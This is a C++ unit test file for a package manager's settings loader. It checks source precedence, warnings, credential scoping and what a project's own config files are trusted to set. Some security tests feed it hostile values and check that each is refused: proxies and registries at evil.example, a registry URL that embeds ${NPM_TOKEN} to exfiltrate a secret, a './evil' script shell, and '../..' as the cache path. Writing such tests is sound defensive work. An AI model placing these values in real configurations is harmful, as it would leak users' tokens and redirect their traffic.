#include "cli/settings.h"

#include <algorithm>

#include <doctest/doctest.h>
#include <sys/stat.h>

#include "cli/test_folder.h"

using namespace hod;
using namespace hod::cli;

namespace {

constexpr std::string_view kRefused = "a project's file may not set this";

// A home and a project in a temporary folder.
struct Scene {
  TestFolder folder;
  SettingsInput input;

  Scene() {
    input.environment.set("HOME", folder / "home");
    input.project_root = folder / "app";
    input.system_file = folder / "etc/config.json";
    must(make_directories(folder / "home"));
    must(make_directories(folder / "app"));
  }
  void write(const std::string& name, std::string_view text) { folder.write(name, text, 0600); }
  Settings read() const { return must(read_settings(input)); }

  std::string warnings() const {
    std::string all;
    for (const std::string& warning : read().warnings) all += warning + "\n";
    return all;
  }
  bool warns_of(std::string_view text) const { return warnings().find(text) != std::string::npos; }
};

const fetcher::Credential* credential_for(const Settings& settings, std::string_view address) {
  static std::vector<fetcher::Credential> all;
  all = settings.network().credentials;
  return fetcher::find_credential(all, must(Url::parse(address)));
}

std::string authorization_for(const Settings& settings, std::string_view address) {
  const fetcher::Credential* credential = credential_for(settings, address);
  return credential ? credential->authorization : "none";
}

}  // namespace

TEST_CASE("without any source everything has its default") {
  Scene scene;
  const Settings settings = scene.read();
  CHECK(settings.registry.source.text() == "default");
  CHECK(settings.registry.value.back() == '/');
  CHECK(settings.strict_ssl.value);
  CHECK(settings.save_prefix.value == "^");
  CHECK_FALSE(settings.layout.value.has_value());
  CHECK(settings.cache_dir.value == scene.folder / "home/.cache/hod");
  CHECK(settings.warnings.empty());
  CHECK(settings.credentials.empty());
  CHECK(settings.find("registry")->source.text() == "default");
  CHECK(settings.find("save-exact")->value == "false");
  CHECK(settings.network().user_agent.compare(0, 4, "hod/") == 0);
  CHECK_FALSE(settings.network().replace_registry_host.empty());
}

TEST_CASE("later sources win, and each value knows its own") {
  Scene scene;
  const auto prefix = [&] {
    const Settings settings = scene.read();
    return settings.save_prefix.value + " " + settings.save_prefix.source.text();
  };
  scene.write("etc/config.json", "{\n  \"save-prefix\": \"1\"\n}");
  CHECK(prefix() == "1 " + scene.folder / "etc/config.json:2");
  scene.write("home/.npmrc", "; mine\nsave-prefix=2\n");
  CHECK(prefix() == "2 " + scene.folder / "home/.npmrc:2");
  scene.write("home/.config/hod/config.json", R"({"savePrefix": "3"})");
  CHECK(prefix() == "3 " + scene.folder / "home/.config/hod/config.json:1");
  scene.write("app/.npmrc", "save-prefix=4\n");
  CHECK(prefix() == "4 " + scene.folder / "app/.npmrc:1");
  scene.write("app/package.json",
              "{\n  \"name\": \"a\",\n  \"hod\": {\n    \"save-prefix\": \"5\"\n  }\n}\n");
  CHECK(prefix() == "5 " + scene.folder / "app/package.json:4");
  scene.input.environment.set("npm_config_save_prefix", "6");
  CHECK(prefix() == "6 $npm_config_save_prefix");
  scene.input.environment.set("HOD_SAVE_PREFIX", "7");
  CHECK(prefix() == "7 $HOD_SAVE_PREFIX");
  scene.input.flags = {{"save-prefix", "8"}};
  CHECK(prefix() == "8 --save-prefix");
}

TEST_CASE("the user's .npmrc lies where npm is told it does") {
  Scene scene;
  scene.write("elsewhere/npmrc", "save-exact=true\n");
  scene.input.environment.set("NPM_CONFIG_USERCONFIG", scene.folder / "elsewhere/npmrc");
  CHECK(scene.read().save_exact.value);
}

TEST_CASE("a project in the home folder does not make a stranger of the user's own file") {
  Scene scene;
  scene.input.project_root = scene.folder / "home";
  scene.write("home/.npmrc", "strict-ssl=false\n");
  CHECK_FALSE(scene.read().strict_ssl.value);
}

TEST_CASE("values of every kind find their field") {
  Scene scene;
  scene.write("home/.npmrc",
              "registry=https://r.example/npm\n@s:registry=https://s.example\nproxy=http://"
              "p.example:3128\nnoproxy=a.example, b.example\n"
              "cafile=certs/"
              "ca.pem\nca[]=\"PEM\\n1\"\nstrict-ssl=false\nfetch-retries=5\nfetch-timeout="
              "1000\nmaxsockets=7\n"
              "engine-strict=true\nstrict-peer-deps=true\nlegacy-peer-deps=true\nomit[]=dev\nomit[]"
              "=optional\ninclude[]=optional\n"
              "min-release-age=2\nmin-release-age-exclude[]=x\nbefore=2026-01-31\nscript-shell=/"
              "bin/bash\ncolor=always\n"
              "progress=false\nloglevel=silly\ninstall-strategy=nested\nreplace-registry-host="
              "never\nprefer-offline=true\n");
  scene.write(
      "app/package.json",
      R"({"hod": {"nodeLinker": "isolated", "packageImportMethod": "copy", "frozenLockfile": true}})");
  const Settings settings = scene.read();
  CHECK(scene.warnings() == "");
  CHECK(settings.registry.value == "https://r.example/npm/");
  CHECK(settings.scope_registries.at("@s").value == "https://s.example/");
  CHECK(settings.ca_files.value == std::vector<std::string>{scene.folder / "home/certs/ca.pem"});
  CHECK(settings.ca_certificates.value == std::vector<std::string>{"PEM\n1"});
  CHECK(settings.engine_strict.value);
  CHECK(settings.strict_peer_deps.value);
  CHECK(settings.legacy_peer_deps.value);
  CHECK(settings.omit.value.development);
  CHECK_FALSE(settings.omit.value.optional);
  CHECK(settings.minimum_release_age.value == std::chrono::minutes(2880));
  CHECK(settings.minimum_release_age_exclude.value == std::vector<std::string>{"x"});
  CHECK(settings.before.value == 1769817600);
  CHECK(settings.script_shell.value == "/bin/bash");
  CHECK(settings.color.value == ColorMode::always);
  CHECK(settings.progress.value == false);
  CHECK(settings.loglevel.value == LogLevel::verbose);
  CHECK(settings.layout.value == cache::Layout::isolated);
  CHECK(settings.import_method.value == cache::ImportMethod::copy);
  CHECK(settings.frozen_lockfile.value == true);

  const fetcher::NetworkSettings network = settings.network();
  CHECK(network.default_registry == "https://r.example/npm/");
  CHECK(network.scopes.at("@s") == "https://s.example/");
  CHECK(network.replace_registry_host == "never");
  CHECK(network.proxy == "http://p.example:3128/");
  CHECK(network.https_proxy == "http://p.example:3128/");
  CHECK(network.no_proxy == "a.example,b.example");
  CHECK_FALSE(network.strict_ssl);
  CHECK(network.max_connections == 7);
  CHECK(network.retries == 5);
  CHECK(network.stall_timeout == std::chrono::milliseconds(1000));
  CHECK(network.prefer_offline);
}

TEST_CASE("an age may be written in several ways") {
  struct Row {
    const char* key;
    const char* text;
    int minutes;
  };
  for (const Row& row :
       {Row{"minimum-release-age", "90", 90}, Row{"minimum-release-age", "3d", 4320},
        Row{"minimum-release-age", "36 hours", 2160}, Row{"minimum-release-age", "0", 0},
        Row{"min-release-age", "1", 1440}}) {
    CAPTURE(row.text);
    Scene scene;
    scene.input.flags = {{row.key, row.text}};
    CHECK(scene.read().minimum_release_age.value == std::chrono::minutes(row.minutes));
  }
}

TEST_CASE("what does not fit is a warning in a file and an error on the command line") {
  Scene scene;
  scene.write("home/.npmrc", "fetch-retries=many\nlayout=sideways\ndepth=abc\n");
  CHECK(scene.read().fetch_retries.value == 3);
  CHECK(scene.warns_of("`fetch-retries` in " +
                       scene.folder / "home/.npmrc:1 is ignored: it must be a number"));
  CHECK(scene.warns_of("`layout` in " +
                       scene.folder / "home/.npmrc:2 is ignored: it must be isolated or hoisted"));
  CHECK_FALSE(scene.warns_of("depth"));  // none of hod's
  scene.input.flags = {{"layout", "sideways"}};
  const auto settings = read_settings(scene.input);
  REQUIRE_FALSE(settings);
  CHECK(settings.error().code() == ErrorCode::usage);
  CHECK(settings.error().what() == "`--layout`: it must be isolated or hoisted");
}

TEST_CASE("T-RES-07: a registry that is none stops everything; another one is not asked instead") {
  Scene scene;
  for (const char* key : {"registry", "@company:registry"}) {
    scene.write("home/.npmrc", std::string(key) + "=ftp://r.example/\n");
    const auto settings = read_settings(scene.input);
    REQUIRE_FALSE(settings);
    CHECK(settings.error().code() == ErrorCode::config_invalid);
    CHECK(settings.error().where() == scene.folder / "home/.npmrc:1");
  }
}

TEST_CASE("a malformed file of settings stops everything, with its place") {
  Scene scene;
  scene.write("home/.config/hod/config.json", "{\n  oops\n}");
  const auto settings = read_settings(scene.input);
  REQUIRE_FALSE(settings);
  CHECK(settings.error().where().find("config.json:2:") != std::string::npos);
  scene.write("home/.config/hod/config.json", "[]");
  CHECK(read_settings(scene.input).error().code() == ErrorCode::config_invalid);
}

TEST_CASE("where the cache lies") {
  Scene scene;
  scene.input.environment.set("XDG_CACHE_HOME", "/xdg");
  CHECK(scene.read().cache_dir.value == "/xdg/hod");
  scene.input.environment.set("HOD_HOME", "/hod-home");
  CHECK(scene.read().cache_dir.value == "/hod-home/cache");
  scene.write("home/.npmrc", "cache-dir=/of-another-tool\n");
  CHECK(scene.read().cache_dir.value == "/hod-home/cache");
  CHECK_FALSE(scene.read().listed.empty());
  scene.write("home/.config/hod/config.json", R"({"cache-dir": "~/c"})");
  CHECK(scene.read().cache_dir.value == scene.folder / "home/c");
  scene.input.environment.set("HOD_CACHE_DIR", "rel");
  CHECK(scene.read().cache_dir.value == scene.folder / "app/rel");
}

TEST_CASE("npm's words for what is left out come together") {
  const auto omit = [](std::string_view npmrc, std::map<std::string, std::string> variables = {}) {
    Scene scene;
    scene.write("home/.npmrc", npmrc);
    for (const auto& [name, value] : variables) scene.input.environment.set(name, value);
    const Omit kinds = scene.read().omit.value;
    return std::string(kinds.development ? "d" : "") + (kinds.optional ? "o" : "") +
           (kinds.peer ? "p" : "");
  };
  CHECK(omit("") == "");
  CHECK(omit("omit=peer") == "p");
  CHECK(omit("production=true\noptional=false") == "do");
  CHECK(omit("only=prod") == "d");
  CHECK(omit("production=true\nalso=dev") == "");
  CHECK(omit("omit[]=dev\nomit[]=optional\ninclude=dev") == "o");
  CHECK(omit("", {{"NODE_ENV", "production"}}) == "d");
  CHECK(omit("include=dev", {{"NODE_ENV", "production"}}) == "");
  CHECK(omit("", {{"npm_config_omit", "dev"}}) == "d");
}

TEST_CASE("variables of other programs are weaker than settings") {
  Scene scene;
  scene.input.environment.set("HTTPS_PROXY", "http://e.example:1/");
  scene.input.environment.set("http_proxy", "http://e.example:2/");
  scene.input.environment.set("NO_PROXY", "x.example");
  scene.input.environment.set("NODE_EXTRA_CA_CERTS", "/extra.pem");
  scene.input.environment.set("CI", "true");
  fetcher::NetworkSettings network = scene.read().network();
  CHECK(network.https_proxy == "http://e.example:1/");
  CHECK(network.proxy == "http://e.example:2/");
  CHECK(network.no_proxy == "x.example");
  CHECK(network.ca_files == std::vector<std::string>{"/extra.pem"});
  CHECK(scene.read().ci.value);
  scene.write("home/.npmrc", "proxy=http://n.example:3/\n");
  network = scene.read().network();
  CHECK(network.https_proxy == "http://n.example:3/");
  CHECK(network.proxy == "http://n.example:3/");
}

TEST_CASE("unknown keys are kept for the list, secrets are never in it") {
  Scene scene;
  scene.write("home/.npmrc",
              "depth=3\nmy-tool=1\nmy-api-token=s3cret-1\n//r.example/:_authToken=s3cret-2\n//"
              "r.example/npm/:_auth=czNjcmV0LTM6\n"
              "proxy=http://u:s3cret-4@p.example/\n");
  const Settings settings = scene.read();
  REQUIRE(settings.find("my-tool"));
  CHECK_FALSE(settings.find("my-tool")->known);
  CHECK(settings.find("depth")->value == "3");
  CHECK(settings.find("//r.example/:_authToken")->value == "***");
  for (const ListedSetting& setting : settings.listed) {
    CAPTURE(setting.key);
    CHECK(setting.value.find("s3cret") == std::string::npos);
    CHECK(setting.value.find("czNjcmV0") == std::string::npos);
  }
  CHECK(
      std::is_sorted(settings.listed.begin(), settings.listed.end(),
                     [](const ListedSetting& a, const ListedSetting& b) { return a.key < b.key; }));
  CHECK(settings.find("node-linker")->key == "layout");
  CHECK(settings.find("no-such-thing") == nullptr);
}

TEST_CASE("two files of one owner that disagree are named") {
  Scene scene;
  scene.write("app/.npmrc", "layout=hoisted\n");
  scene.write("app/package.json", R"({"hod": {"layout": "isolated"}})");
  CHECK(scene.warns_of("`layout` is set differently in " + scene.folder / "app/.npmrc:1 and " +
                       scene.folder / "app/package.json:1"));
  scene.write("app/package.json", R"({"hod": {"layout": "hoisted"}})");
  CHECK(scene.warnings() == "");
}

TEST_CASE("T-CFG-01: a file with tokens that others can read is warned of") {
  Scene scene;
  scene.write("home/.npmrc", "//r.example/:_authToken=t\n");
  CHECK(scene.warnings() == "");
  REQUIRE(::chmod((scene.folder / "home/.npmrc").c_str(), 0644) == 0);
  CHECK(scene.warns_of("other users of this machine can read the secrets in " +
                       scene.folder / "home/.npmrc"));
}

TEST_CASE("T-CFG-02: each source may set what it is trusted with") {
  struct Row {
    const char* key;
    const char* value;
  };
  for (const Row& row : {Row{"strict-ssl", "false"}, Row{"proxy", "http://evil.example/"},
                         Row{"https-proxy", "http://evil.example/"}, Row{"noproxy", "r.example"},
                         Row{"cafile", "ca.pem"}, Row{"ca", "PEM"}, Row{"script-shell", "./evil"},
                         Row{"cache-dir", "../.."}, Row{"user-agent", "x"}}) {
    CAPTURE(std::string(row.key));
    const std::string line = std::string(row.key) + "=" + row.value + "\n";
    const std::string member =
        std::string("{\"hod\": {\"") + row.key + "\": \"" + row.value + "\"}}";
    Scene project;
    project.write("app/.npmrc", line);
    project.write("app/package.json", member);
    const Settings settings = project.read();
    for (const ListedSetting& listed : settings.listed) {
      if (listed.key != row.key || listed.source.kind == SettingSource::Kind::built_in) continue;
      if (listed.known) CHECK_FALSE(listed.in_effect);
    }
    CHECK(project.warns_of(kRefused));

    Scene user;
    user.write("home/.config/hod/config.json",
               std::string("{\"") + row.key + "\": \"" + row.value + "\"}");
    CHECK(user.read().find(row.key)->source.kind == SettingSource::Kind::user_file);
    CHECK(user.warnings() == "");
  }
}

TEST_CASE("T-CFG-04 a project's token helper is ignored, and told") {
  Scene scene;
  scene.write("app/.npmrc", "//r.example/:tokenHelper=/bin/true\n");
  CHECK(scene.read().credentials.empty());
  CHECK(scene.warns_of("tokenHelper"));
  Scene user;
  user.write("home/.npmrc", "//r.example/:tokenHelper=/bin/true\n");
  REQUIRE(user.read().credentials.size() == 1);
  CHECK(user.read().credentials[0].value.token_helper == "/bin/true");
  CHECK(user.warnings() == "");
}

TEST_CASE("a project can turn scripts off, but not on again") {
  Scene scene;
  scene.write("app/.npmrc", "ignore-scripts=true\n");
  CHECK(scene.read().ignore_scripts.value);
  scene.write("home/.npmrc", "ignore-scripts=true\n");
  scene.write("app/.npmrc", "ignore-scripts=false\n");
  CHECK(scene.read().ignore_scripts.value);
  CHECK(scene.warns_of("a project cannot allow the scripts"));
}

TEST_CASE("T-CFG-02: a project can have more proved and nothing made ahead, not the other way") {
  Scene scene;
  scene.write("app/.npmrc", "verify-store=always\nlink-ahead=never\n");
  CHECK(scene.read().verify_store.value);
  CHECK(scene.read().link_ahead.value == Afterwards::never);
  scene.write("home/.npmrc", "verify-store=always\n");
  scene.write("app/.npmrc", "verify-store=auto\nlink-ahead=always\n");
  CHECK(scene.read().verify_store.value);
  CHECK(scene.read().link_ahead.value == Afterwards::automatic);
  CHECK(scene.warns_of("cannot have less proved"));
  CHECK(scene.warns_of("can only switch it off"));
}

TEST_CASE("T-NET-02: a credential belongs to host, port, path and https") {
  Scene scene;
  scene.write(
      "home/.npmrc",
      "//r.example/npm/:_authToken=t\n//127.0.0.1:4873/:_authToken=l\n//h.example/:_authToken=h\n");
  Settings settings = scene.read();
  CHECK(authorization_for(settings, "https://r.example/npm/x") == "Bearer t");
  CHECK(authorization_for(settings, "https://r.example/other") == "none");
  CHECK(authorization_for(settings, "http://r.example/npm/x") == "none");
  CHECK(authorization_for(settings, "https://r.example:8443/npm/x") == "none");
  CHECK(authorization_for(settings, "http://127.0.0.1:4873/x") == "Bearer l");
  CHECK(authorization_for(settings, "http://h.example/x") == "none");
  scene.write("home/.npmrc", "registry=http://h.example/\n//h.example/:_authToken=h\n");
  CHECK(authorization_for(scene.read(), "http://h.example/x") == "Bearer h");
}

TEST_CASE("T-NET-03: an unscoped credential goes to the registry of its own file only") {
  Scene scene;
  scene.write("home/.npmrc", "_authToken=mine\nregistry=https://r.example/\n");
  scene.write("app/.npmrc", "registry=https://evil.example/\n");
  Settings settings = scene.read();
  CHECK(settings.registry.value == "https://evil.example/");
  CHECK(authorization_for(settings, "https://evil.example/x") == "none");
  CHECK(authorization_for(settings, "https://r.example/x") == "Bearer mine");

  scene.write("home/.npmrc", "_authToken=mine\n");  // no registry: the build's default one is meant
  settings = scene.read();
  CHECK(authorization_for(settings, "https://evil.example/x") == "none");
  REQUIRE(settings.credentials.size() == 1);
  CHECK(settings.credentials[0].value.origin ==
        must(Url::parse(Scene().read().registry.value)).origin);

  scene.write("home/.npmrc", "");
  scene.write("app/.npmrc", "_authToken=theirs\n");
  CHECK(scene.read().credentials.empty());
  CHECK(scene.warns_of("belongs to no registry that this file names"));
  scene.write("app/.npmrc", "_authToken=theirs\nregistry=https://t.example/\n");
  CHECK(authorization_for(scene.read(), "https://t.example/x") == "Bearer theirs");
}

TEST_CASE(
    "T-NET-03: a token of the environment goes to the user's registry, not to the project's") {
  Scene scene;
  scene.write("home/.npmrc", "registry=https://r.example/\n");
  scene.write("app/.npmrc", "registry=https://evil.example/\n");
  scene.input.environment.set("NODE_AUTH_TOKEN", "e");
  CHECK(authorization_for(scene.read(), "https://evil.example/x") == "none");
  CHECK(authorization_for(scene.read(), "https://r.example/x") == "Bearer e");
  scene.input.environment.set("NODE_AUTH_TOKEN", "XXXXX-XXXXX-XXXXX-XXXXX");
  CHECK(scene.read().credentials.empty());
  scene.input.environment.set("npm_config_//r.example/:_authToken", "n");
  CHECK(authorization_for(scene.read(), "https://r.example/x") == "Bearer n");
}

TEST_CASE("T-NET-04: a project's file gets no variable into an address or a credential") {
  Scene scene;
  scene.input.environment.set("NPM_TOKEN", "s3cret");
  const auto refused = [&scene] {
    const auto settings = read_settings(scene.input);
    return !settings &&
           settings.error().what().find("variables are not expanded") != std::string::npos &&
           settings.error().text().find("s3cret") == std::string::npos;
  };
  scene.write("app/.npmrc", "registry=https://evil.example/${NPM_TOKEN}/\n");
  CHECK(refused());
  scene.write("app/.npmrc", "");
  scene.write("app/package.json",
              R"({"hod": {"@s:registry": "https://evil.example/${NPM_TOKEN}/"}})");
  for (const auto& [scope, address] : scene.read().scope_registries)
    CHECK(address.value.find("s3cret") == std::string::npos);
  scene.write("app/package.json", "{}");
  scene.write("app/.npmrc", "//evil.example/:_authToken=${NPM_TOKEN}\n");
  CHECK(scene.read().credentials.empty());
  CHECK(scene.warns_of("variables are not expanded"));
  CHECK_FALSE(scene.warns_of("s3cret"));
  scene.write("home/.npmrc", "//r.example/:_authToken=${NPM_TOKEN:-none}\n");
  CHECK(authorization_for(scene.read(), "https://r.example/") == "Bearer s3cret");
}

TEST_CASE("T-NET-05: a project cannot send anybody to a registry without encryption") {
  Scene scene;
  for (const char* text : {"registry=http://r.example/\n", "@s:registry=http://r.example/\n"}) {
    scene.write("app/.npmrc", text);
    const auto settings = read_settings(scene.input);
    REQUIRE_FALSE(settings);
    CHECK(settings.error().what().find("a project cannot send you to a registry without") !=
          std::string::npos);
  }
  scene.write("app/.npmrc", "registry=http://127.0.0.1:4873/\n");
  CHECK(scene.read().registry.value == "http://127.0.0.1:4873/");
  scene.write("app/.npmrc", "");
  scene.write("home/.npmrc", "registry=http://r.example/\n");
  CHECK(scene.read().registry.value == "http://r.example/");
}
